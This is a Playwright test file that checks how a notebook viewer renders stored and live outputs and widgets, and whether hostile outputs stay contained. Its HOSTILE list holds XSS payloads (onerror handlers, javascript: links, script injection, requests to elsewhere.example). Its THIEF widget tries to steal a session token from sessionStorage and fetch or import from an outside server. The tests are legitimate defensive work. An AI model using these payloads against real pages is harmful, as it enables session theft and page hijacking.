"""Every kind of output in headless Chromium: live against the real service, stored, and hostile."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from kitchen_sink import LIVE_MS, cell_under, run, run_code
from playwright.sync_api import expect
from watched_page import Watched

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Locator, Page

pytestmark = pytest.mark.browser

STORED_AND_LIVE = {
    "Streams": "two",
    "Cleared and updated": "20 %",
    "HTML": "bold and italic",
    "Tables": "Rome",
    "Errors": "ZeroDivisionError",
}


@pytest.mark.parametrize("mode", ["stored", "live"])
@pytest.mark.parametrize(("heading", "words"), STORED_AND_LIVE.items())
def test_texts(sink: Watched, heading: str, words: str, mode: str) -> None:
    cell = cell_under(sink.page, heading)
    output = run(cell, "error" if heading == "Errors" else "live") if mode == "live" else cell.locator(".cell_output")
    expect(output).to_contain_text(words)
    sink.assert_clean()


def test_a_slider_reaches_python_and_a_linked_widget(sink: Watched) -> None:
    output = run(cell_under(sink.page, "Widgets"))
    handle = output.get_by_role("slider", name="Layer")
    handle.focus()
    sink.page.keyboard.press("ArrowRight")
    expect(output).to_contain_text("doubled: 8")
    expect(output.get_by_label("Same")).to_have_value("4")
    again = run(cell_under(sink.page, "Widgets"))
    expect(again.get_by_label("Same")).to_have_value("3")
    sink.assert_clean()


def test_interact_draws_its_function_again_with_the_books_own_renderers(sink: Watched) -> None:
    output = run(cell_under(sink.page, "Interact"))
    expect(output).to_contain_text("square 16")
    output.get_by_role("slider", name="n", exact=True).focus()
    sink.page.keyboard.press("ArrowRight")
    expect(output).to_contain_text("square 25")
    expect(output).not_to_contain_text("square 16")
    expect(output.locator("table.dataframe td", has_text="25")).to_be_visible()
    sink.assert_clean()


def test_what_a_button_prints_stands_below_it(sink: Watched) -> None:
    output = run(cell_under(sink.page, "Buttons"))
    button = output.get_by_role("button", name="Count")
    button.click()
    button.click()
    expect(output).to_contain_text("pressed 2")
    sink.assert_clean()


def test_an_anywidget_counts_in_its_frame_and_in_python(sink: Watched) -> None:
    page = sink.page
    output = run(cell_under(page, "Anywidget"))
    button = output.frame_locator("iframe").get_by_role("button")
    expect(button).to_have_text("count is 5")
    button.click()
    expect(button).to_have_text("count is 6")
    assert "value 6" in run_code(page, "print('value', counter.value)\ncounter.value = 41").inner_text()
    expect(button).to_have_text("count is 41")
    run_code(page, "counter.send({'word': 'hello'})")
    expect(output.frame_locator("iframe").locator("body")).to_contain_text("heard hello")
    sink.assert_clean()


def test_a_widget_from_elsewhere_is_a_sentence_and_the_next_cell_runs(sink: Watched) -> None:
    output = run(cell_under(sink.page, "A widget from elsewhere"))
    expect(output).to_contain_text("Strange of strange-widgets cannot be shown here")
    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
    sink.assert_clean()


@pytest.mark.parametrize("mode", ["stored", "live"])
def test_a_precomputed_slider_moves(sink: Watched, mode: str) -> None:
    cell = cell_under(sink.page, "Grid")
    output = run(cell) if mode == "live" else cell.locator(".cell_output")
    cell.scroll_into_view_if_needed()
    title = output.locator(".js-plotly-plot .gtitle")
    expect(title).to_have_text("1 in teal", timeout=LIVE_MS)
    output.get_by_role("slider", name="height").focus()
    sink.page.keyboard.press("ArrowRight")
    expect(title).to_have_text("2 in teal")
    output.get_by_role("combobox", name="colour").select_option("plum")
    expect(title).to_have_text("2 in plum")
    if mode == "stored":
        assert sink.page.locator("body").get_attribute("data-kernel") == "idle"
    sink.assert_clean()


def test_stored_widgets_live_without_a_kernel_and_from_a_file(browser: Browser, kitchen: Path) -> None:
    context = browser.new_context(offline=True)
    page = context.new_page()
    watched = Watched(page, kitchen.as_uri())
    page.goto((kitchen / "index.html").as_uri())
    page.evaluate("() => window.tlHydrateAll()")
    widgets = cell_under(page, "Widgets").locator(".cell_output")
    widgets.get_by_role("slider", name="Layer").focus()
    page.keyboard.press("ArrowRight")
    expect(widgets.get_by_label("Same")).to_have_value("4")  # linked in the page
    expect(widgets).to_contain_text("computes nothing without a kernel")
    expect(cell_under(page, "Interact").locator(".cell_output")).to_contain_text("square 16")
    expect(cell_under(page, "Live figure").locator(".js-plotly-plot .gtitle")).to_have_text("peak 3")
    button = cell_under(page, "Anywidget").frame_locator("iframe").get_by_role("button")
    button.click()
    expect(button).to_have_text("count is 6")
    expect(cell_under(page, "A widget from elsewhere").locator(".cell_output")).to_contain_text("cannot be shown here")
    watched.assert_clean()
    context.close()


@pytest.mark.parametrize("mode", ["stored", "live"])
def test_a_table_is_sorted_by_its_headers_from_the_keyboard(sink: Watched, mode: str) -> None:
    cell = cell_under(sink.page, "Tables")
    output = run(cell) if mode == "live" else cell.locator(".cell_output")
    words = output.locator("tbody td:nth-child(2)")
    expect(words).to_have_text(["Rome", "Paris", "Oslo"])
    output.get_by_role("button", name="n", exact=True).focus()
    sink.page.keyboard.press("Enter")
    expect(words).to_have_text(["Oslo", "Rome", "Paris"])
    expect(output.get_by_role("columnheader", name="n", exact=True)).to_have_attribute("aria-sort", "ascending")
    sink.page.keyboard.press("Enter")
    expect(words).to_have_text(["Paris", "Rome", "Oslo"])
    sink.assert_clean()


@pytest.mark.parametrize("mode", ["stored", "live"])
def test_pictures_and_figures(sink: Watched, mode: str) -> None:
    for heading, selector in (("SVG", "img, svg"), ("PNG", "img"), ("Figures", ".js-plotly-plot .main-svg")):
        cell = cell_under(sink.page, heading)
        output = run(cell) if mode == "live" else cell.locator(".cell_output")
        cell.scroll_into_view_if_needed()
        if heading == "Figures":
            output.locator(".tl-figure").hover()
        expect(output.locator(selector).first).to_be_attached(timeout=LIVE_MS)
    scripted = cell_under(sink.page, "HTML that brings scripts")
    output = run(scripted) if mode == "live" else scripted.locator(".cell_output")
    scripted.scroll_into_view_if_needed()
    expect(output.frame_locator("iframe").locator("#made")).to_have_text("after", timeout=LIVE_MS)
    assert sink.page.title() != "1", "the SVG's onload ran"
    sink.assert_clean()


def start_code(page: Page, code: str) -> Locator:
    """Press Run on the scratch cell and do not wait for its end."""
    cell = cell_under(page, "Scratch")
    cell.locator(".cell_input pre").first.click()
    cell.locator(".cm-content").click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(code)
    cell.get_by_role("button", name=re.compile("^Run")).first.click()
    return cell


def test_input_asks_in_the_page(sink: Watched) -> None:
    page = sink.page
    code = "import getpass\nname = input('Who? ')\nkey = getpass.getpass('Key: ')\nprint(name.upper(), len(key))"
    cell = start_code(page, code)
    field = cell.get_by_label("Who?")
    expect(field).to_be_visible(timeout=LIVE_MS)
    field.fill("Ada")
    page.keyboard.press("Enter")
    secret = cell.get_by_label("Key:")
    expect(secret).to_have_attribute("type", "password")
    secret.fill("hidden")
    page.keyboard.press("Enter")
    expect(cell).to_have_attribute("data-state", "live", timeout=LIVE_MS)
    expect(cell.locator(".cell_output")).to_contain_text("ADA 6")
    expect(cell.locator(".cell_output")).not_to_contain_text("hidden")
    sink.assert_clean()


def test_interrupt_ends_a_question(sink: Watched) -> None:
    cell = start_code(sink.page, "input('Well? ')")
    expect(cell.get_by_label("Well?")).to_be_visible(timeout=LIVE_MS)
    cell.get_by_role("button", name="Interrupt").click()
    expect(cell.locator(".cell_output")).to_contain_text("Well? (not answered)", timeout=LIVE_MS)
    expect(cell.locator(".cell_output")).to_contain_text("Interrupted")
    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
    sink.assert_clean()


def test_five_megabytes_of_text_leave_the_page_usable(sink: Watched) -> None:
    output = run_code(sink.page, "for _ in range(50):\n    print('x' * 100_000)\nprint('the end')")
    expect(output).to_contain_text("left out", timeout=LIVE_MS)
    assert len(output.inner_text()) < 600_000
    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
    sink.assert_clean()


# Each tries to reach the page, its token or another server; none may leave a trace.
HOSTILE = {
    "a script": """HTML('<script>top.document.title = "owned"</script>')""",
    "an event": """HTML('<img src=x onerror="document.title=`owned`"><svg onload="document.title=`owned`"></svg>')""",
    "a link": """HTML('<a id=evil href="javascript:document.title=`owned`">go</a>')""",
    "a refresh": """HTML('<meta http-equiv=refresh content="0;url=https://elsewhere.example"><b>x</b>')""",
    "a style": """HTML('<style>body { display: none } @import "https://elsewhere.example/a.css";</style><b>x</b>')""",
    "a drawing": """SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=`owned`"><g/></svg>')""",
    "JavaScript": """Javascript('top.document.title = "owned"; fetch("https://elsewhere.example")')""",
    "Markdown": """Markdown('<img src=x onerror="document.title=`owned`"> [go](javascript:document.title=`owned`)')""",
    "a formula": r"""Latex(r'$\href{javascript:document.title=1}{x} \style{background:url(https://elsewhere.example)}{y}$')""",
    "a formula's class": r"""Latex(r'$\htmlClass{tl-button}{x} \htmlStyle{position:fixed}{y} \url{javascript:a()}$')""",
    "a formula's picture": r"""Latex(r'$$\includegraphics{https://elsewhere.example/a.png}$$')""",
    "a formula that grows": r"""Latex(r'$\def\a{xxxxxxxx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$')""",
    "a formula's markup": r"""Markdown(r'$\text{<img src=x onerror="document.title=`owned`">}$')""",
    "a widget's HTML": """ipywidgets.HTML('<img src=x onerror="document.title=`owned`">')""",
    "a description": """ipywidgets.IntSlider(description_allow_html=True,
    description='<img src=x onerror="document.title=`owned`">')""",
    "a class": """slider = ipywidgets.IntSlider(); slider.layout.margin = '-900px'; slider""",
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_outputs_do_not_reach_the_page(sink: Watched, code: str) -> None:
    page = sink.page
    title = page.title()
    output = run_code(page, code)
    page.wait_for_timeout(300)
    for link in output.locator("a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    assert page.title() == title
    assert sink.foreign == []
    expect(page.locator("h1")).to_be_visible()


def hostile_model(name: str, **state: object) -> dict[str, object]:
    module = "@jupyter-widgets/controls"
    full = {"_model_name": name, "_view_name": name.replace("Model", "View"), "_view_module": module, **state}
    return {"model_name": name, "model_module": module, "model_module_version": "2.0.0", "state": full}


EVIL = "<img src=x onerror='document.title=`owned`'>"


@pytest.mark.parametrize(
    "model",
    [
        hostile_model("HTMLModel", value=EVIL),
        hostile_model("HTMLMathModel", value=EVIL),
        hostile_model("IntSliderModel", description=EVIL, description_allow_html=True),
        hostile_model("IntSliderModel", _view_name=EVIL),
        hostile_model(EVIL, _view_name="ErrorWidgetView", _view_module="@jupyter-widgets/base", msg=EVIL, error={}),
        hostile_model("IntSliderModel", layout="IPY_MODEL_missing"),
        hostile_model("constructor", _view_name="JUPYTER_CONTROLS_VERSION"),
        hostile_model("VBoxModel", children=["IPY_MODEL_missing"]),
        hostile_model("ImageModel", format="url", value="https://elsewhere.example/a.png"),
    ],
    ids=lambda model: str(model["model_name"])[:20],
)
def test_a_hostile_stored_state_does_not_reach_the_page(browser: Browser, kitchen: Path, model: object) -> None:
    widget = cell_widget((kitchen / "index.html").read_text())
    state = json.dumps({"version_major": 2, "version_minor": 0, "state": {widget: model}}).replace("<", "\\u003c")
    text = re.sub(
        r'(<script type="application/vnd.jupyter.widget-state\+json">).*?(</script>)',
        lambda found: found[1] + state + found[2],
        (kitchen / "index.html").read_text(),
        flags=re.DOTALL,
    )
    # Beside the real page, so that its scripts are found.
    page_file = kitchen / "hostile.html"
    page_file.write_text(text)
    context = browser.new_context()
    watched = Watched(context.new_page(), kitchen.as_uri())
    page = watched.page
    page.goto(page_file.as_uri())
    title = page.title()
    page.evaluate("() => window.tlHydrateAll()")
    output = cell_under(page, "Widgets").locator(".cell_output")
    for part in output.locator(".tl-widget-place > *").all():
        part.click(force=True)
    page.wait_for_timeout(200)
    assert page.title() == title
    assert watched.foreign == []
    assert output.locator("img[onerror]").count() == 0
    context.close()


def cell_widget(text: str) -> str:
    """Return the id of the model that the cell under *Widgets* shows."""
    found = re.search(r'id="widgets".*?"model_id":"(\w+)"', text, re.DOTALL)
    assert found is not None
    return found[1]


THIEF = """
class Thief(anywidget.AnyWidget):
    _esm = '''
    async function attempt(name, act) {
      try { return `${name}: got ${JSON.stringify(await act())}`; } catch (error) { return `${name}: refused`; }
    }
    export default { async render({ model, el }) {
      const tries = await Promise.all([
        attempt("storage", () => parent.sessionStorage.getItem("tl-reader")),
        attempt("page", () => parent.document.title),
        attempt("mint", async () => (await fetch("ADDRESSapi/reader", { method: "POST" })).status),
        attempt("own", () => sessionStorage.length),
        attempt("elsewhere", async () => (await fetch("ELSEWHERE")).status),
        attempt("import", () => import("ELSEWHERE/x.js")),
      ]);
      model.set("_esm", "changed"); model.set("layout", "IPY_MODEL_x"); model.save_changes();
      top.postMessage({ kind: "tl-height", height: 1e9 }, "*");
      el.textContent = tries.join("; ");
    } };
    '''
Thief()
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what it was asked for: the browser reports requests that its policy stopped too."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_a_live_figure_follows_a_slider_on_the_pages_own_plotly(sink: Watched) -> None:
    page = sink.page
    output = run(cell_under(page, "Live figure"))
    title = output.locator(".js-plotly-plot .gtitle")
    expect(title).to_have_text("peak 3", timeout=LIVE_MS)
    output.get_by_role("slider", name="Peak").focus()
    page.keyboard.press("ArrowRight")
    expect(title).to_have_text("peak 4")
    assert page.locator("script[src*=plotly]").count() == 1
    sink.assert_clean()


def test_a_figure_widget_is_refused_with_a_way_out(sink: Watched) -> None:
    output = run_code(sink.page, "go.FigureWidget(go.Scatter(y=[1, 2]))")
    expect(output).to_contain_text("use go.Figure", ignore_case=True)
    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
    sink.assert_clean()


def test_a_widget_says_that_its_kernel_is_gone(sink: Watched) -> None:
    page = sink.page
    output = run(cell_under(page, "Widgets"))
    start_code(page, "import os; os._exit(1)")
    expect(output).to_contain_text("The kernel behind this is gone", timeout=LIVE_MS)
    output.get_by_role("slider", name="Layer").focus()
    page.keyboard.press("ArrowRight")
    expect(output.get_by_label("Same")).to_have_value("4")
    assert sink.errors == []


def test_an_anywidget_can_steal_nothing(sink: Watched, kitchen_address: str, elsewhere: tuple[str, list[str]]) -> None:
    page = sink.page
    title = page.title()
    run_code(page, "print('the reader has a token now')")
    assert page.evaluate("() => sessionStorage.getItem('tl-reader')"), "there is a token to steal"
    output = run_code(page, THIEF.replace("ADDRESS", kitchen_address).replace("ELSEWHERE", elsewhere[0]))
    words = output.frame_locator("iframe").locator("#root")
    expect(words).to_contain_text("import", timeout=LIVE_MS)
    text = words.inner_text()
    assert text.count("refused") == 6, text
    assert page.title() == title
    assert elsewhere[1] == []
    box = output.locator("iframe").bounding_box()
    assert box is not None
    assert box["height"] <= 6000
